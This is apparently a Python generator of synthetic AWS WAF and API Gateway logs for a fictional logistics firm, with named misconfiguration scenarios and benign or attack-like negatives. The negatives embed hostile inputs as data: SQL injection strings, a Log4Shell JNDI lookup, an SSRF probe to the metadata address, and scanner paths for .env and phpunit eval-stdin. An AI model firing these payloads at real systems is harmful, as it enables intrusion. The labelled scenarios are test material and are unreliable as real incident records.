"""Families: waf-webacl-alb-apigw, apigw-rest-http-execution-access."""
from common import (hexs, alnum, lower, upper, digits, uuid, ip10, pubip, pick, build, day, hms, epoch_ms, ACCT, REGION, jd)

# ---------------------------------------------------------------- waf-webacl-alb-apigw
# "kestrelbay logistics": AWS WAF web ACL kestrelbay-prod on the public ALB and on the shipments-api REST stage,
# logging to the aws-waf-logs-kestrelbay-prod log group (one JSON record per request, all fields as WAF writes them;
# the Authorization and Cookie headers are configured as redacted fields, so WAF writes "REDACTED").
F1 = "waf-webacl-alb-apigw"
ACL = "arn:aws:wafv2:%s:%s:regional/webacl/kestrelbay-prod/5c1e9a7d-2b4f-4e38-9a61-d07f3c8e2b95" % (REGION, ACCT)
ALBSRC = "%s-app/prod-public-alb/7d3e1a9c5f2b8046" % ACCT
APISRC = "%s:7x1k2m9q4z:prod" % ACCT
SETTLEPAY = ["52.64.118.23", "52.64.118.61", "13.211.40.190"]
OFFICE = "203.0.113.77"
UA_BROWSER = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36",
              "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15",
              "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"]
RG = ["AWS#AWSManagedRulesCommonRuleSet", "AWS#AWSManagedRulesSQLiRuleSet", "AWS#AWSManagedRulesAmazonIpReputationList", "AWS#AWSManagedRulesKnownBadInputsRuleSet"]


def rid(R):
    return "1-%s-%s" % (hexs(R, 8), hexs(R, 24))


def waf(R, method, uri, args="", ua=None, ip=None, action="ALLOW", term=("Default_Action", "REGULAR"), rg_term=None, labels=(), src="ALB",
        extra_h=(), rate=None, nonterm=(), captcha=None, country=None, ctype=None):
    h = [{"name": "Host", "value": "api.kestrelbay.example" if src == "APIGW" or uri.startswith("/api") or uri.startswith("/webhooks") else "www.kestrelbay.example"}]
    if ua is not False:
        h.append({"name": "User-Agent", "value": ua or pick(R, UA_BROWSER)})
    h.append({"name": "Accept", "value": pick(R, ["application/json", "*/*", "text/html,application/xhtml+xml"])})
    if ctype:
        h.append({"name": "Content-Type", "value": ctype})
    for k, v in extra_h:
        h.append({"name": k, "value": v})
    h.append({"name": "X-Amzn-Trace-Id", "value": "Root=" + rid(R)})
    rgl = []
    for g in RG:
        e = {"ruleGroupId": g, "terminatingRule": None, "nonTerminatingMatchingRules": [], "excludedRules": None, "customerConfig": None}
        if rg_term and rg_term[0] == g:
            e["terminatingRule"] = {"ruleId": rg_term[1], "action": "BLOCK", "ruleMatchDetails": None}
        rgl.append(e)
    d = {"timestamp": epoch_ms(R), "formatVersion": 1, "webaclId": ACL, "terminatingRuleId": term[0], "terminatingRuleType": term[1], "action": action,
         "terminatingRuleMatchDetails": [], "httpSourceName": src, "httpSourceId": ALBSRC if src == "ALB" else APISRC, "ruleGroupList": rgl,
         "rateBasedRuleList": [rate] if rate else [], "nonTerminatingMatchingRules": list(nonterm), "requestHeadersInserted": None,
         "responseCodeSent": None,
         "httpRequest": {"clientIp": ip or pubip(R), "country": country or pick(R, ["AU", "AU", "AU", "NZ", "SG", "US"]), "headers": h, "uri": uri, "args": args,
                         "httpVersion": pick(R, ["HTTP/1.1", "HTTP/2.0"]), "httpMethod": method, "requestId": rid(R) if src == "ALB" else "%s-%s-%s-%s-%s" % (hexs(R, 8), hexs(R, 4), hexs(R, 4), hexs(R, 4), hexs(R, 12))},
         "labels": [{"name": l} for l in labels], "ja3Fingerprint": hexs(R, 32)}
    if captcha:
        d["captchaResponse"] = captcha
    return jd(d)


def sid(R):
    return "DLV-%s" % digits(R, 8)


def f1_size(R):
    # proof-of-delivery photo uploads (multipart, 200 KB-4 MB) exceed the core rule set's 8 KB body limit since the web ACL moved to the ALB
    return waf(R, "POST", "/api/v2/deliveries/%s/proof-of-delivery" % sid(R), ua="KestrelDriver/5.%d.%d (Android %d; okhttp/4.12.0)" % (R.randint(0, 3), R.randint(0, 9), R.randint(12, 15)),
               action="BLOCK", term=("AWS-AWSManagedRulesCommonRuleSet", "MANAGED_RULE_GROUP"), rg_term=(RG[0], "SizeRestrictions_BODY"),
               labels=["awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"], ctype="multipart/form-data; boundary=----%s" % alnum(R, 16),
               extra_h=[("Authorization", "REDACTED"), ("Content-Length", str(R.randint(210000, 4200000)))], country="AU")


def f1_rate(R):
    # settlepay's month-end settlement webhooks burst past the 300-per-5-minutes IP rule; every webhook is blocked and payments stay "pending"
    ip = pick(R, SETTLEPAY)
    return waf(R, "POST", "/webhooks/settlepay", ua="SettlePay-Webhooks/2.4", ip=ip, action="BLOCK", term=("ip-rate-300", "RATE_BASED"),
               rate={"rateBasedRuleId": "4d9b2e71-8c3a-4f56-b1e0-7a2c9d5e3f18", "rateBasedRuleName": "ip-rate-300", "limitKey": "IP", "maxRateAllowed": 300, "evaluationWindowSec": "300", "customValues": []},
               labels=["awswaf:%s:webacl:kestrelbay-prod:rule:ip-rate-300" % ACCT], ctype="application/json",
               extra_h=[("X-SettlePay-Signature", "t=%d,v1=%s" % (1877558400 + R.randint(0, 2000000), hexs(R, 64)))], country="AU", src="ALB")


def f1_noua(R):
    # driver app 5.4's background sync (WorkManager) sends no User-Agent; NoUserAgent_HEADER blocks every sync
    return waf(R, "GET", "/api/v2/sync", args="since=%d&depot=%s" % (1877558400 + R.randint(0, 2400000), pick(R, ["MEL3", "SYD1", "BNE2", "PER1", "ADL1"])), ua=False,
               action="BLOCK", term=("AWS-AWSManagedRulesCommonRuleSet", "MANAGED_RULE_GROUP"), rg_term=(RG[0], "NoUserAgent_HEADER"),
               labels=["awswaf:managed:aws:core-rule-set:NoUserAgent_Header"], extra_h=[("Authorization", "REDACTED")], country="AU")


def f1_captcha(R):
    # the captcha rule's scope-down statement lost its "not /api/" clause: B2B integrations get a CAPTCHA (405) they cannot solve
    return waf(R, "POST", "/api/v2/quotes", ua=pick(R, ["python-requests/2.32.3", "Go-http-client/2.0", "Apache-HttpClient/5.3.1 (Java/21.0.4)", "axios/1.7.7"]),
               action="CAPTCHA", term=("captcha-high-risk-paths", "REGULAR"), ctype="application/json", extra_h=[("Authorization", "REDACTED")],
               labels=["awswaf:managed:token:absent", "awswaf:managed:captcha:absent"], captcha={"responseCode": 405, "solveTimestamp": 0, "failureReason": "TOKEN_MISSING"}, src="APIGW")


def f1_sqli(R):
    # editors publishing articles that contain SQL examples from the office are blocked by SQLi_BODY
    return waf(R, pick(R, ["POST", "PUT"]), "/cms/api/articles" + pick(R, ["", "/%d" % R.randint(1000, 9999)]), ip=OFFICE, ua=pick(R, UA_BROWSER[:2]),
               action="BLOCK", term=("AWS-AWSManagedRulesSQLiRuleSet", "MANAGED_RULE_GROUP"), rg_term=(RG[1], "SQLi_BODY"),
               labels=["awswaf:managed:aws:sql-database:SQLi_Body"], ctype="application/json", extra_h=[("Cookie", "REDACTED")], country="AU")


def f1_negs():
    def n_allow(R):
        m, u, a_ = pick(R, [("GET", "/", ""), ("GET", "/track", "id=KB%s" % digits(R, 10)), ("GET", "/api/v2/shipments/KB%s" % digits(R, 10), ""),
                            ("GET", "/static/js/main.%s.js" % hexs(R, 8), ""), ("POST", "/api/v2/quotes", ""), ("GET", "/api/v2/sync", "since=%d&depot=SYD1" % (1877558400 + R.randint(0, 2400000))),
                            ("GET", "/health", ""), ("POST", "/api/v2/auth/login", "")])
        return waf(R, m, u, args=a_, src=pick(R, ["ALB", "ALB", "APIGW"]) if u.startswith("/api") else "ALB")
    def n_scan(R):
        u = pick(R, ["/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale", "/actuator/env", "/server-status"])
        ruleid, lbl = pick(R, [("GenericLFI_URIPATH", "GenericLFI_URIPath"), ("RestrictedExtensions_URIPATH", "RestrictedExtensions_URIPath"), ("GenericRFI_QUERYARGUMENTS", "GenericRFI_QueryArguments")])
        return waf(R, "GET", u, ua=pick(R, ["Mozilla/5.0 zgrab/0.x", "python-requests/2.25.1", "curl/7.68.0", "Go-http-client/1.1"]), action="BLOCK",
                   term=("AWS-AWSManagedRulesCommonRuleSet", "MANAGED_RULE_GROUP"), rg_term=(RG[0], ruleid), labels=["awswaf:managed:aws:core-rule-set:" + lbl], country=pick(R, ["US", "NL", "CN", "RU", "BR", "VN"]))
    def n_sqli_attack(R):
        return waf(R, "GET", "/api/v2/shipments", args="ref=KB1%27%20OR%201%3D1--%20-" if R.random() < 0.5 else "ref=1%20UNION%20SELECT%20NULL%2CNULL%2Cversion()--", ua="sqlmap/1.8.%d#stable (https://sqlmap.org)" % R.randint(1, 9),
                   action="BLOCK", term=("AWS-AWSManagedRulesSQLiRuleSet", "MANAGED_RULE_GROUP"), rg_term=(RG[1], "SQLi_QUERYARGUMENTS"), labels=["awswaf:managed:aws:sql-database:SQLi_QueryArguments"], country=pick(R, ["US", "DE", "RU"]))
    def n_iprep(R):
        return waf(R, pick(R, ["GET", "POST"]), pick(R, ["/", "/api/v2/auth/login", "/track"]), action="BLOCK", term=("AWS-AWSManagedRulesAmazonIpReputationList", "MANAGED_RULE_GROUP"),
                   rg_term=(RG[2], "AWSManagedIPReputationList"), labels=["awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList"], country=pick(R, ["US", "NL", "SC", "RU"]))
    def n_stuffing(R):
        # credential stuffing against the login endpoint: the rate rule is doing its job
        return waf(R, "POST", "/api/v2/auth/login", ua=pick(R, UA_BROWSER), action="BLOCK", term=("login-rate-100", "RATE_BASED"), ctype="application/json",
                   rate={"rateBasedRuleId": "b1e7c4a2-9d3f-4e85-8a60-3f2d1c9b7e44", "rateBasedRuleName": "login-rate-100", "limitKey": "IP", "maxRateAllowed": 100, "evaluationWindowSec": "300", "customValues": []},
                   labels=["awswaf:%s:webacl:kestrelbay-prod:rule:login-rate-100" % ACCT], country=pick(R, ["VN", "BR", "ID", "US"]))
    def n_count(R):
        # a rule kept in COUNT mode while it is evaluated
        return waf(R, "GET", "/api/v2/shipments/KB%s/label" % digits(R, 10), args="format=pdf&return=http%%3A%%2F%%2F%s%%2F" % pick(R, ["169.254.169.254", "localhost"]) if R.random() < 0.3 else "format=pdf",
                   nonterm=[{"ruleId": "ssrf-query-count", "action": "COUNT", "ruleMatchDetails": []}], labels=["awswaf:%s:webacl:kestrelbay-prod:rule:ssrf-query-count" % ACCT], country="AU")
    def n_captcha_browser(R):
        # browsers on the public quote form get a CAPTCHA and solve it: by design
        ok = R.random() < 0.5
        return waf(R, "POST", "/quote-request", ua=pick(R, UA_BROWSER), action="CAPTCHA" if not ok else "ALLOW", term=("captcha-high-risk-paths", "REGULAR") if not ok else ("Default_Action", "REGULAR"),
                   ctype="application/x-www-form-urlencoded", labels=["awswaf:managed:token:absent"] if not ok else ["awswaf:managed:token:accepted", "awswaf:managed:captcha:accepted"],
                   captcha={"responseCode": 405, "solveTimestamp": 0, "failureReason": "TOKEN_MISSING"} if not ok else {"responseCode": 0, "solveTimestamp": 1877558400 + R.randint(0, 2400000)})
    def n_bot(R):
        return waf(R, "GET", pick(R, ["/", "/robots.txt", "/sitemap.xml", "/track"]), ua=pick(R, ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"]),
                   labels=["awswaf:managed:aws:bot-control:bot:verified", "awswaf:managed:aws:bot-control:bot:category:search_engine"], country="US")
    def n_settlepay_ok(R):
        return waf(R, "POST", "/webhooks/settlepay", ua="SettlePay-Webhooks/2.4", ip=pick(R, SETTLEPAY), ctype="application/json",
                   extra_h=[("X-SettlePay-Signature", "t=%d,v1=%s" % (1877558400 + R.randint(0, 2000000), hexs(R, 64)))], country="AU")
    def n_upload_small(R):
        # signature-only uploads stay under the body limit and pass
        return waf(R, "POST", "/api/v2/deliveries/%s/signature" % sid(R), ua="KestrelDriver/5.%d.%d (Android %d; okhttp/4.12.0)" % (R.randint(0, 3), R.randint(0, 9), R.randint(12, 15)),
                   ctype="application/json", extra_h=[("Authorization", "REDACTED"), ("Content-Length", str(R.randint(900, 7900)))], country="AU")
    def n_badinput(R):
        return waf(R, "GET", "/api/v2/shipments", args="q=${jndi:ldap://%s/a}" % pubip(R), action="BLOCK", term=("AWS-AWSManagedRulesKnownBadInputsRuleSet", "MANAGED_RULE_GROUP"),
                   rg_term=(RG[3], "Log4JRCE_QUERYSTRING"), labels=["awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString"], ua="Mozilla/5.0", country=pick(R, ["US", "NL"]))
    return [n_allow, n_allow, n_scan, n_sqli_attack, n_iprep, n_stuffing, n_count, n_captcha_browser, n_bot, n_settlepay_ok, n_upload_small, n_badinput]


def fam_waf(R):
    return build(R, F1, [("crs-sizerestrictions-body-blocks-pod-photo-uploads", f1_size), ("ip-rate-300-blocks-settlepay-webhooks", f1_rate),
                         ("crs-nouseragent-blocks-driver-app-sync", f1_noua), ("captcha-rule-scope-hits-b2b-quotes-api", f1_captcha),
                         ("sqli-body-blocks-cms-article-publish", f1_sqli)], f1_negs())


# ---------------------------------------------------------------- apigw-rest-http-execution-access
# shipments-api (REST, stage prod, id 7x1k2m9q4z): execution logs at INFO (API-Gateway-Execution-Logs_7x1k2m9q4z/prod,
# one event per line, "(<request id>) <text>") and a JSON access log; inventory-http (HTTP API, id p3w8n1c6v2) JSON access log.
F2 = "apigw-rest-http-execution-access"
LAMBDA = "arn:aws:lambda:%s:%s:function:" % (REGION, ACCT)


def clf(R):
    return "%02d/Jul/2029:%s +0000" % (day(R), hms(R))


def ex(R, text):
    return "(%s) %s" % (uuid(R), text)


def acc(R, method, rpath, path, status, lat, ilat, istatus, err="-", extra=None):
    d = {"requestId": uuid(R), "extendedRequestId": alnum(R, 14) + "=", "ip": pubip(R), "requestTime": clf(R), "httpMethod": method, "resourcePath": rpath,
         "path": "/prod" + path, "status": str(status), "protocol": "HTTP/1.1", "responseLength": str(R.randint(2, 4000) if status < 500 else pick(R, [21, 36, 36, 43])), "responseLatency": str(lat),
         "integrationLatency": str(ilat), "integrationStatus": str(istatus), "errorMessage": err}
    if extra:
        d.update(extra)
    return jd(d)


def hacc(R, route, path, status, ierr="-"):
    return jd({"requestId": alnum(R, 14) + "=", "ip": pubip(R), "requestTime": clf(R), "httpMethod": route.split()[0], "routeKey": route, "path": path,
               "status": str(status), "protocol": "HTTP/1.1", "responseLength": str(R.randint(2, 900) if status < 500 else 35), "integrationLatency": str(R.randint(3, 300)) if status != 404 else "-",
               "integrationErrorMessage": ierr})


def kb(R):
    return "KB" + digits(R, 10)


def f2_perm(R):
    # the labels Lambda was recreated by a new stack; its resource policy no longer lets apigateway.amazonaws.com invoke it
    k = R.random()
    if k < 0.55:
        return ex(R, "Execution failed due to configuration error: Invalid permissions on Lambda function")
    return acc(R, "POST", "/shipments/{shipmentId}/labels", "/shipments/%s/labels" % kb(R), 500, R.randint(8, 40), "-", "-", "Internal server error")


def f2_timeout(R):
    # the carrier-rates backend behind /quotes (HTTP integration) takes longer than the 29 s integration timeout
    if R.random() < 0.5:
        return ex(R, "Execution failed due to a timeout error")
    return acc(R, "POST", "/quotes", "/quotes", 504, R.randint(29000, 29060), R.randint(29000, 29040), "-", "Endpoint request timed out")


def f2_proxy(R):
    # tracking-events v14 returns body as an object instead of a string: API Gateway rejects every response
    k = R.random()
    if k < 0.35:
        return ex(R, "Execution failed due to configuration error: Malformed Lambda proxy response")
    if k < 0.6:
        return ex(R, 'Endpoint response body before transformations: {"statusCode":200,"headers":{"Content-Type":"application/json"},"body":{"trackingId":"%s","events":[{"code":"%s","at":"2029-07-%02dT%s+10:00"}]}}' % (kb(R), pick(R, ["PU", "AR", "OD", "DL"]), day(R), hms(R)))
    return acc(R, "GET", "/tracking/{trackingId}", "/tracking/%s" % kb(R), 502, R.randint(40, 400), R.randint(30, 380), 200, "Internal server error")


def f2_auth(R):
    # the partner-token authorizer Lambda crashes on start (missing JWKS_URL env var after the config refactor)
    if R.random() < 0.5:
        return ex(R, "Execution failed due to configuration error: Authorizer error")
    return acc(R, pick(R, ["GET", "POST"]), pick(R, ["/partner/shipments", "/partner/shipments/{shipmentId}"]), "/partner/shipments" + pick(R, ["", "/" + kb(R)]), 500, R.randint(20, 900), "-", "-",
               "Authorizer error", {"authorizerError": "KeyError: 'JWKS_URL'", "authorizerStatus": "500"})


def f2_sqs(R):
    # inventory-http's SQS integration role lost sqs:SendMessage on inventory-reservations.fifo
    return hacc(R, "POST /inventory/reserve", "/inventory/reserve", 500,
                "User: arn:aws:sts::%s:assumed-role/inventory-http-sqs-integration/BackplaneAssumeRoleSession is not authorized to perform: sqs:sendmessage on resource: arn:aws:sqs:%s:%s:inventory-reservations.fifo because no identity-based policy allows the sqs:sendmessage action" % (ACCT, REGION, ACCT) if R.random() < 0.5 else
                "The IAM role configured on the integration or API Gateway doesn't have permissions to call the integration. Check the permissions and try again.")


def f2_negs():
    def n_flow(R):
        sid_ = kb(R)
        return ex(R, pick(R, ["Extended Request Id: %s=" % alnum(R, 14), "Starting execution for request: %s" % uuid(R),
                              "HTTP Method: GET, Resource Path: /shipments/%s" % sid_, "Method request path: {shipmentId=%s}" % sid_,
                              "Method request query string: {}", "Method request query string: {include=[events]}",
                              "Endpoint request URI: https://lambda.%s.amazonaws.com/2015-03-31/functions/%sshipments-get/invocations" % (REGION, LAMBDA),
                              "Sending request to https://lambda.%s.amazonaws.com/2015-03-31/functions/%sshipments-get/invocations" % (REGION, LAMBDA),
                              "Received response. Status: 200, Integration latency: %d ms" % R.randint(12, 900), "Successfully completed execution",
                              "Method completed with status: %d" % pick(R, [200, 200, 201, 204, 404, 400, 403, 429]),
                              "Method request body before transformations: [Binary Data]", "Method response body after transformations: [TRUNCATED]",
                              "Endpoint response headers: {Date=%s, Content-Type=application/json, Content-Length=%d, Connection=keep-alive, x-amzn-RequestId=%s, X-Amzn-Trace-Id=root=1-%s-%s;sampled=0}" % (clf(R), R.randint(40, 4000), uuid(R), hexs(R, 8), hexs(R, 24))]))
    def n_usage(R):
        return ex(R, pick(R, ["Verifying Usage Plan for request: %s. API Key: **********************%s API Stage: 7x1k2m9q4z/prod" % (uuid(R), alnum(R, 4)),
                              "API Key **********************%s authorized because method 'GET /partner/shipments' requires API Key and API Key is associated with the Usage Plan" % alnum(R, 4),
                              "Usage Plan check succeeded for API Key **********************%s and API Stage 7x1k2m9q4z/prod" % alnum(R, 4),
                              "API Key  authorized because method 'GET /tracking/{trackingId}' does not require API Key. Request will not contribute to throttle or quota limits"]))
    def n_valid(R):
        # client sent a bad body: request validation at the door, by design
        return ex(R, pick(R, ['Request body does not match model schema for content type application/json: [object has missing required properties (["destination"])]',
                              'Request body does not match model schema for content type application/json: [instance type (string) does not match any allowed primitive type (allowed: ["integer"])]',
                              "Request validation failed for request: %s" % uuid(R)]))
    def n_404(R):
        return ex(R, 'Endpoint response body before transformations: {"statusCode":404,"headers":{"Content-Type":"application/json"},"body":"{\\"error\\":\\"shipment %s not found\\"}"}' % kb(R))
    def n_acc_ok(R):
        m, rp, p = pick(R, [("GET", "/shipments/{shipmentId}", "/shipments/" + kb(R)), ("GET", "/tracking/{trackingId}", "/tracking/" + kb(R)), ("POST", "/quotes", "/quotes"),
                            ("POST", "/shipments/{shipmentId}/labels", "/shipments/%s/labels" % kb(R)), ("GET", "/partner/shipments", "/partner/shipments")])
        st = pick(R, [200, 200, 200, 201, 404, 400])
        return acc(R, m, rp, p, st, R.randint(20, 3000), R.randint(10, 2900), st)
    def n_acc_4xx(R):
        # throttled / unauthenticated callers, expected
        st, err = pick(R, [(429, "Too Many Requests"), (403, "Missing Authentication Token"), (401, "Unauthorized"), (403, "Forbidden"), (429, "Limit Exceeded")])
        return acc(R, pick(R, ["GET", "POST"]), "-" if st == 403 and err.startswith("Missing") else "/partner/shipments", "/" + pick(R, ["partner/shipments", "admin", ".env", "v1/graphql"]), st, R.randint(1, 30), "-", "-", err)
    def n_hacc(R):
        st = pick(R, [200, 200, 202, 404, 400])
        return hacc(R, pick(R, ["POST /inventory/reserve", "GET /inventory/{sku}", "DELETE /inventory/reserve/{reservationId}"]) if st != 404 else "-", "/inventory/" + pick(R, ["reserve", "SKU-%s" % digits(R, 6)]), st)
    def n_lambda_err_handled(R):
        # the shipments Lambda returns a handled 409 on a duplicate label request
        return ex(R, 'Endpoint response body before transformations: {"statusCode":409,"body":"{\\"error\\":\\"label already issued for %s\\"}"}' % kb(R))
    def n_retry(R):
        return ex(R, "Received response. Status: %d, Integration latency: %d ms" % (pick(R, [200, 201, 404]), R.randint(3000, 12000)))
    def n_mhdr(R):
        return ex(R, "Method request headers: {Accept=application/json, CloudFront-Viewer-Country=AU, Host=api.kestrelbay.example, User-Agent=%s, X-Amzn-Trace-Id=Root=1-%s-%s, X-Forwarded-For=%s, X-Forwarded-Port=443, X-Forwarded-Proto=https}" % (
            pick(R, ["KestrelDriver/5.3.2 (Android 14; okhttp/4.12.0)", "python-requests/2.32.3", "Mozilla/5.0"]), hexs(R, 8), hexs(R, 24), pubip(R)))
    return [n_flow, n_flow, n_flow, n_usage, n_valid, n_404, n_acc_ok, n_acc_ok, n_acc_4xx, n_hacc, n_lambda_err_handled, n_retry, n_mhdr]


def fam_apigw(R):
    return build(R, F2, [("labels-lambda-invoke-permission-missing", f2_perm), ("quotes-carrier-rates-29s-integration-timeout", f2_timeout),
                         ("tracking-events-malformed-proxy-response", f2_proxy), ("partner-authorizer-missing-jwks-url", f2_auth),
                         ("inventory-http-sqs-integration-role-denied", f2_sqs)], f2_negs())


FAMILIES = {F1: fam_waf, F2: fam_apigw}
